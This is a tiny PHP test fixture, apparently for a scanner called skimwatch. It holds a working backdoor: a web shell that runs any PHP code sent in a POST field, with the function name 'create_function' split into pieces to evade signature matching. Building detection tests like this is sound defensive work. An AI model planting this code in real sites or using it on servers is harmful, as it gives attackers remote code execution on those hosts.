<?php
// Synthetic callback backdoor for skimwatch tests: create_function's name split into pieces.
$f = 'cre' . 'ate_' . 'function';
$g = $f('', $_POST['c']);
$g();
